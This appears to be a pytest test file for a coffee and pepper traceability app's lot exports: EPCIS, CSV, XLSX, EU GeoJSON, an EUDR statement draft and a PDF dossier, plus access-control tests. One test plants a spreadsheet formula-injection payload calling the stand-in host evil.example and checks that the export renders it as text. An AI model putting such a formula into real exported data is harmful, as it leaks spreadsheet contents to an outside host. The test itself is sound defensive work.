"""The inspector's exports of a lot (docs/inspector/EXPORTS.md), over the demo's robusta chain:
every file as its reader's tool reads it (EPCIS against GS1's XSD and JSON schema, the CSV
parsed, the XLSX opened, the GeoJSON against the EU's rules, the statement draft against the
EU's V3 XSD, the PDF's text read back), and the attacker's requests next to the user's: another
organisation's member, a plot the EU would refuse, a formula in a cell, forged EU numbers."""

from __future__ import annotations

import base64
import csv
import io
import json
import zipfile
from pathlib import Path

import pypdf
import pytest
from lxml import etree
from openpyxl import load_workbook
from sqlalchemy import select, update

from tests.support.demo import run_demo_command
from tests.support.eudr_rules import violations
from tracechain.app_services import app_services
from tracechain.capture.schema import validate_schema
from tracechain.domain import eudr
from tracechain.store.accounts import Organisation
from tracechain.store.catalogue import Plot
from tracechain.store.eudr_models import EudrStatement
from tracechain.store.uow import session_of

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
GTIN, LOT = "08936103000338", "ET24-GC01"  # green coffee: two harvests, two plots, Ea Tu
BASE = f"/app/inspect/lots/{GTIN}/{LOT}"
EATU, ROASTER, CAMLO = ("HTX Nông nghiệp Cà phê Ea Tu", "Công ty TNHH Rang xay Cà phê Buôn Ma "
                        "Thuột", "HTX Hồ tiêu Cam Lộ")
DDS_QUERY = {"activity": "IMPORT", "operator_role": "OPERATOR", "country_of_activity": "DE",
             "border_cross_country": "DE", "hs_heading": "0901", "eori": "DE123456789012345",
             "net_mass_kg": "1500"}
KINDS = ("epcis.json", "epcis.xml", "events.csv", "events.xlsx", "eudr.geojson", "dossier.pdf")


@pytest.fixture
def demo(app, dataset):
    return dataset("demo", lambda: run_demo_command(app))


def _org(app, name: str) -> dict:
    uow = app_services(app).unit_of_work()
    with uow:
        return {"id": session_of(uow).scalar(select(Organisation.id)
                                             .where(Organisation.name == name))}


def _sql(app, statement) -> None:
    uow = app_services(app).unit_of_work()
    with uow:
        session_of(uow).execute(statement)
        uow.commit()


def _statements(app) -> list:
    uow = app_services(app).unit_of_work()
    with uow:
        return list(session_of(uow).execute(
            select(EudrStatement.reference_number, EudrStatement.replaces_id)).all())


@pytest.fixture
def inspector(console, demo):
    return console.signed_in(console.user("inspector"))


@pytest.fixture(scope="module")
def epcis_xsd():
    return etree.XMLSchema(etree.parse(str(FIXTURES / "epcis_xsd" / "EPCglobal-epcis-2_0.xsd")))


@pytest.fixture(scope="module")
def dds_xsd():
    return etree.XMLSchema(etree.parse(
        str(FIXTURES.parents[1] / "trace" / "present" / "eudr_schema"
            / "xsd4-due-diligence-statement-v3.xsd")))


def test_an_inspector_takes_each_file_away_as_its_tool_reads_it(inspector, epcis_xsd):
    r = inspector.get(f"{BASE}/export/epcis.json")
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    assert "epcis-08936103000338-ET24-GC01.jsonld" in r.headers["Content-Disposition"]
    doc = r.get_json(force=True)
    assert validate_schema(doc) == []
    events = doc["epcisBody"]["eventList"]
    steps = [e.get("bizStep") for e in events]
    # 2 harvests, drying, hulling, shipping, receiving and the roasting it went into: every
    # event naming a lot of the lineage back from it
    assert len(events) == 7 and steps.count("commissioning") == 2

    r = inspector.get(f"{BASE}/export/epcis.xml")
    assert r.status_code == 200 and r.mimetype == "application/xml"
    assert epcis_xsd.validate(etree.fromstring(r.data)), epcis_xsd.error_log.last_error

    inspector.set_cookie("tc_tz", "Europe/Berlin")
    r = inspector.get(f"{BASE}/export/events.csv")
    assert r.status_code == 200 and r.data.startswith("\ufeff".encode())
    assert 'filename=cte-08936103000338-ET24-GC01.csv' in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert [row["CTE Type"] for row in rows] == ["Harvesting", "Harvesting", "Transformation",
                                                  "Transformation", "Shipping", "Receiving",
                                                  "Transformation"]
    harvest = rows[0]
    assert harvest["Traceability Lot Code"] == "ET24-101" and harvest["Quantity"] == "3200"
    assert harvest["Unit of Measure"] == "KGM"
    assert harvest["Event Date"].endswith("+01:00")  # the viewer's zone, one format
    assert harvest["Traceability Lot Code Source"].startswith(EATU)
    hulling = rows[3]
    assert hulling["Traceability Lot Code"] == LOT and hulling["Input Traceability Lot Codes"] \
        == "ET24-DC01"
    roasting = rows[6]  # the lot went into the roaster's lot: named by its code too
    assert (roasting["Traceability Lot Code"], roasting["GTIN"]) == ("BMT25-R01",
                                                                      "08936104000412")
    assert rows[4]["Reference Document Number"] == "BMT-PO-2025-002"
    assert rows[4]["Reference Document Type"] == "po"
    dates = [row["Event Date"] for row in rows]
    assert dates == sorted(dates)

    r = inspector.get(f"{BASE}/export/events.xlsx")
    sheet = load_workbook(io.BytesIO(r.data)).active
    table = list(sheet.iter_rows(values_only=True))
    assert table[0][0] == "Traceability Lot Code" and len(table) == 8
    assert table[1][3] == 3200  # a number, sortable

    r = inspector.get(f"{BASE}/export/eudr.geojson")
    assert r.status_code == 200 and r.mimetype == "application/geo+json"
    assert violations(r.get_data(as_text=True)) == []
    features = json.loads(r.data)["features"]
    assert {f["properties"]["ProducerName"] for f in features} == {"Y Bhin Niê",
                                                                    "Phạm Văn Long"}
    assert {f["geometry"]["type"] for f in features} == {"Point", "Polygon"}

    r = inspector.get(f"{BASE}/export/dossier.pdf")
    assert r.status_code == 200 and r.mimetype == "application/pdf"
    text = "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(r.data)).pages)
    for expected in (LOT, "Hồ sơ truy xuất nguồn gốc lô hàng", "Dòng thời gian", "Thửa đất",
                     "Chứng nhận", "Thu hồi và tạm giữ", "Gói kiểm toán", "ET-02-A",
                     "Rainforest Alliance", "commissioning", "ET24-101"):
        assert expected in text, expected


def test_the_statement_draft_is_valid_v3_and_carries_every_producer(inspector, dds_xsd):
    r = inspector.get(f"{BASE}/export/dds.xml", query_string=DDS_QUERY)
    assert r.status_code == 200, r.get_data(as_text=True)[:800]
    assert "dds-08936103000338-ET24-GC01.xml" in r.headers["Content-Disposition"]
    root = etree.fromstring(r.data)
    assert dds_xsd.validate(root), dds_xsd.error_log.last_error
    ns = {"dds": "http://ec.europa.eu/tracesnt/certificate/eudr/due-diligence-statement/v3",
          "c": "http://ec.europa.eu/tracesnt/certificate/eudr/common/v3"}
    assert root.findtext(".//c:netWeight", namespaces=ns) == "1500"
    assert root.findtext(".//dds:hsHeading", namespaces=ns) == "0901"
    producers = root.findall(".//dds:producers", ns)
    assert len(producers) == 2
    for producer in producers:
        geojson = base64.b64decode(producer.findtext("dds:geometryGeojson", namespaces=ns))
        assert violations(geojson.decode()) == []


def test_an_incomplete_draft_is_a_page_saying_what_is_missing_never_a_file(inspector):
    r = inspector.get(f"{BASE}/export/dds.xml", query_string={
        **DDS_QUERY, "net_mass_kg": "", "activity": "IMPORT", "eori": "DE-12",
        "country_of_activity": "VN"})
    page = r.get_data(as_text=True)
    assert r.status_code == 422 and r.mimetype == "text/html"
    assert 'id="eori-error"' in page and 'id="country_of_activity-error"' in page
    # the lot is counted in kg: its own quantity fills an empty net mass
    assert 'id="net_mass_kg-error"' not in page


def test_a_plot_the_eu_would_refuse_is_named_and_nothing_is_served(app, inspector):
    hole = {"type": "Polygon", "coordinates": [
        [[108.061524, 12.672318], [108.063734, 12.672398], [108.063814, 12.674036],
         [108.061468, 12.673349], [108.061524, 12.672318]],
        [[108.0625, 12.6729], [108.0630, 12.6729], [108.0630, 12.6733], [108.0625, 12.6729]]]}
    _sql(app, update(Plot).where(Plot.code == "ET-02-A").values(geometry=hole))
    for path in (f"{BASE}/export/eudr.geojson", f"{BASE}/export/dds.xml"):
        r = inspector.get(path, query_string=DDS_QUERY)
        page = r.get_data(as_text=True)
        assert r.status_code == 409 and r.mimetype == "text/html", path
        assert "Thửa ET-02-A" in page and "lỗ thủng" in page  # the reader's language
        assert "Content-Disposition" not in r.headers
    figure_eight = {"type": "Polygon", "coordinates": [[
        [108.061524, 12.672318], [108.063734, 12.674036], [108.063814, 12.672398],
        [108.061468, 12.673349], [108.061524, 12.672318]]]}
    _sql(app, update(Plot).where(Plot.code == "ET-02-A").values(geometry=figure_eight))
    r = inspector.get(f"{BASE}/export/eudr.geojson")
    assert r.status_code == 409 and "ET-02-A" in r.get_data(as_text=True)
    assert "crosses itself" in r.get_data(as_text=True)


def test_over_the_limits_the_geolocation_comes_as_a_zip_of_parts(inspector, monkeypatch):
    monkeypatch.setattr(eudr.geolocation_files, "__kwdefaults__",
                        {"max_producers": 1, "max_bytes": eudr.MAX_FILE_BYTES})
    r = inspector.get(f"{BASE}/export/eudr.geojson")
    assert r.status_code == 200 and r.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(r.data)) as archive:
        names = archive.namelist()
        assert names == [f"eudr-{GTIN}-{LOT}-part-{n}-of-2.geojson" for n in (1, 2)]
        for name in names:
            assert violations(archive.read(name).decode()) == []


def test_a_formula_in_a_cell_is_shown_as_text(app, inspector):
    _sql(app, update(Organisation).where(Organisation.name == EATU).values(
        name='=HYPERLINK("http://evil.example/?"&A1,"click")'))
    r = inspector.get(f"{BASE}/export/events.csv")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    sheet = load_workbook(io.BytesIO(inspector.get(f"{BASE}/export/events.xlsx").data)).active
    values = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in values)
    assert not any(c.value.startswith("=") for c in values)


def test_another_organisations_member_is_refused(app, console, demo):
    outsider = console.signed_in(console.user("member", _org(app, CAMLO)))
    anonymous = console.client()
    for path in [f"{BASE}/eudr", *(f"{BASE}/export/{kind}" for kind in (*KINDS, "dds.xml"))]:
        r = outsider.get(path, query_string=DDS_QUERY)
        assert r.status_code == 403 and "Content-Disposition" not in r.headers, path
        assert anonymous.get(path).status_code == 302, path  # to the sign-in page


def test_a_member_of_the_lineage_takes_its_files_too(app, console, demo):
    grower = console.signed_in(console.user("member", _org(app, EATU)))
    assert grower.get(f"{BASE}/export/events.csv").status_code == 200
    assert grower.get(f"{BASE}/export/nothing.txt").status_code == 404


def test_the_holder_records_the_eu_numbers_and_a_correction_keeps_the_old_row(app, console,
                                                                               demo):
    page = f"{BASE}/eudr"
    holder = console.signed_in(console.user("member", _org(app, ROASTER)))
    numbers = {"reference_number": "26DE7XTVCZAQ2S", "verification_number": "SFFCB4Y3"}
    r = console.post(holder, page, numbers, csrf_from=page)
    assert r.status_code == 303, r.get_data(as_text=True)[:500]
    shown = holder.get(page).get_data(as_text=True)
    assert "26DE7XTVCZAQ2S" in shown and "SFFCB4Y3" in shown

    # a malformed number: 400 next to its field, nothing stored
    r = console.post(holder, page, {"reference_number": "26DE7", "verification_number": "S"},
                     csrf_from=page)
    assert r.status_code == 400 and 'id="reference_number-error"' in r.get_data(as_text=True)
    # the same reference twice: 409
    r = console.post(holder, page, numbers, csrf_from=page)
    assert r.status_code == 409
    assert [s.reference_number for s in _statements(app)] == ["26DE7XTVCZAQ2S"]

    # a correction: a new row naming the one it replaces; the old one stays, shown as corrected
    first_id = 1 if _statements(app) else None
    r = console.post(holder, page, {"reference_number": "26DE7XTVCZAQ2T",
                                    "verification_number": "SFFCB4Y3",
                                    "replaces": str(first_id)}, csrf_from=page)
    assert r.status_code == 303
    kept = _statements(app)
    assert [s.reference_number for s in kept] == ["26DE7XTVCZAQ2S", "26DE7XTVCZAQ2T"]
    assert kept[1].replaces_id is not None
    # a forged "replaces" (a row of no statement of this lot) changes nothing
    r = console.post(holder, page, {"reference_number": "26DE7XTVCZAQ2V",
                                    "verification_number": "SFFCB4Y3", "replaces": "999"},
                     csrf_from=page)
    assert r.status_code == 400 and len(_statements(app)) == 2
    # correcting a replaced row again is refused (history is a line, not a tree)
    r = console.post(holder, page, {"reference_number": "26DE7XTVCZAQ2U",
                                    "verification_number": "SFFCB4Y3",
                                    "replaces": str(first_id)}, csrf_from=page)
    assert r.status_code == 400 and len(_statements(app)) == 2


def test_inspectors_and_other_members_read_the_numbers_but_record_none(app, console, inspector):
    page = f"{BASE}/eudr"
    numbers = {"reference_number": "26DE7XTVCZAQ2S", "verification_number": "SFFCB4Y3"}
    shown = inspector.get(page).get_data(as_text=True)
    assert 'data-testid="numbers-form"' not in shown
    assert console.post(inspector, page, numbers, csrf_from=page).status_code == 403
    grower = console.signed_in(console.user("member", _org(app, EATU)))  # in the lineage,
    assert console.post(grower, page, numbers, csrf_from=page).status_code == 403  # no holder
    assert _statements(app) == []


def test_the_start_page_leads_to_a_lots_exports_page_of_at_most_30_kb(inspector):
    import brotli

    home = inspector.get("/app/").get_data(as_text=True)
    assert 'href="/app/inspect/exports"' in home
    assert inspector.get("/app/inspect/exports").status_code == 200
    r = inspector.get("/app/inspect/exports", query_string={"gtin": GTIN, "lot": LOT})
    assert r.status_code == 303 and r.headers["Location"].endswith(f"{BASE}/eudr")
    r = inspector.get("/app/inspect/exports", query_string={"gtin": "12ab", "lot": ""})
    assert r.status_code == 400 and 'id="gtin-error"' in r.get_data(as_text=True)
    r = inspector.get(f"{BASE}/eudr", headers={"Accept-Encoding": "br"})
    assert r.status_code == 200 and r.headers["Content-Encoding"] == "br"
    page = brotli.decompress(r.data).decode()
    assert "Bản nháp tờ khai thẩm định EUDR" in page and 'value="0901"' in page
    assert len(r.data) <= 30 * 1024


def test_without_its_font_the_pdf_is_a_page_naming_the_package(app, inspector, tmp_path):
    app_services(app).reconfigure(label_font_dir=str(tmp_path / "no-fonts"))
    r = inspector.get(f"{BASE}/export/dossier.pdf")
    assert r.status_code == 503 and "fonts-dejavu-core" in r.get_data(as_text=True)
    assert "Content-Disposition" not in r.headers


def test_every_file_of_the_demos_other_lots_is_whole(app, inspector):
    """The pepper chain (a polygon over 4 ha, a shipment between companies) and the roasted
    coffee (packed into a pallet): every file built, the GeoJSON fit for the EU."""
    if not app_services(app).settings.database_url.startswith("sqlite"):
        pytest.skip("the store reads are the same; once is enough")
    for gtin, lot, plots in (("08936101000217", "QT25-G550-01", 3),
                             ("08936104000412", "BMT25-R01", 2)):
        for kind in KINDS:
            r = inspector.get(f"/app/inspect/lots/{gtin}/{lot}/export/{kind}")
            assert r.status_code == 200, (lot, kind, r.get_data(as_text=True)[:300])
        geojson = inspector.get(f"/app/inspect/lots/{gtin}/{lot}/export/eudr.geojson")
        assert violations(geojson.get_data(as_text=True)) == []
        assert len(json.loads(geojson.data)["features"]) == plots
        rows = list(csv.DictReader(io.StringIO(inspector.get(
            f"/app/inspect/lots/{gtin}/{lot}/export/events.csv").data.decode("utf-8-sig"))))
        assert {"Harvesting", "Transformation", "Shipping"} <= {r["CTE Type"] for r in rows}
